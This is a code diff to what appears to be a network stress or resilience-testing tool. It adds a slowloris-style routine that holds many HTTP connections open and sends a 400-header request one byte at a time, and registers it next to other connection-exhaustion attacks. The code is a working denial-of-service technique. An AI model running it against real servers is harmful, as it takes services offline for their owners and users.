@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import socket
 import time
 from collections.abc import Callable
 from typing import TypeAlias
@@ -74,6 +75,28 @@ def connections(says: bytes, ports: Callable[[Target], list[int]]) -> Step:
     return step
 
 
+def dripping_heads(target: Target, attempts: Attempts, goes_on: Callable[[], bool]) -> None:
+    """Connections to each port whose request comes a byte at a time, for as long as they are
+    left open."""
+    head = b"GET / HTTP/1.1\r\n" + b"x-more: yes\r\n" * 400
+    with contextlib.ExitStack() as stack:
+        held: list[socket.socket] = []
+        for port in http_ports(target):
+            opened = attacks.many_connections(port, FEW, goes_on=goes_on, within_s=WITHIN_S)
+            held += stack.enter_context(opened)
+        attempts.tried += len(held)
+        for place in range(len(head)):
+            if not held or not goes_on():
+                break
+            for one in list(held):
+                try:
+                    one.sendall(head[place : place + 1])
+                except OSError:
+                    held.remove(one)
+                    attempts.codes["closed"] = attempts.codes.get("closed", 0) + 1
+            time.sleep(0.02)
+
+
 def half_open(target: Target, attempts: Attempts, goes_on: Callable[[], bool]) -> None:
     with contextlib.ExitStack() as stack:
         for _ in range(FEW):
@@ -129,6 +152,11 @@ def on_ports(path: str) -> tuple[Attack, ...]:
                 "http: half a body",
                 "2,000 connections whose body does not come",
                 connections(half_a_body(path), http_ports),
+            ),
+            (
+                "http: heads a byte at a time",
+                "100 connections to each port whose request comes a byte at a time",
+                dripping_heads,
             ),
             ("http: nonsense", "bytes that are no HTTP", nonsense(http_ports)),
         )
